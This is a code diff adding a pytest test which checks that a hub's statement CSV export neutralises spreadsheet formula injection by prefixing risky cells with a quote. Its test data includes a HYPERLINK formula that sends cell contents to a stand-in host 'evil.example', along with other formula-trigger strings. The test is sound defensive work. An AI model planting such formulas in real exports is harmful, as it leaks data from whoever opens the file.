@@ -8,6 +8,7 @@ import re
 
 from ledger.months import add_months
 from tests.creator_scenario import build, join_as_owner_of_github_3
+from tests.ledger_helpers import feed, star
 from tests.web_helpers import log_in, sign_up
 
 pytest_plugins = ["tests.hub_fixtures"]
@@ -132,3 +133,16 @@ async def test_pages_need_a_member(hub_client, engine, config):
         reply = await hub_client.get(path, allow_redirects=False)
         assert reply.status == 303
         assert reply.headers["Location"].startswith("/login?next=")
+
+
+async def test_statement_csv_cells_cannot_run_as_spreadsheet_formulas(hub_client, engine, config):
+    s = build(engine, config)
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
+    feed(engine, *(star("1", content, "2", f"{s.now}-01T0{n}:00:00")
+                   for n, content in enumerate(hostile)))
+    await log_in(hub_client, "ana")
+    rows = list(csv.DictReader(io.StringIO(
+        await (await hub_client.get(f"/statements/{s.now}.csv")).text(), newline="")))
+    written = [r["content_id"] for r in rows if r["content_id"].lstrip("'") in hostile]
+    assert sorted(written) == sorted("'" + content for content in hostile)
+    assert all(r["share"].lstrip("-").isdigit() for r in rows)  # numbers stay numbers
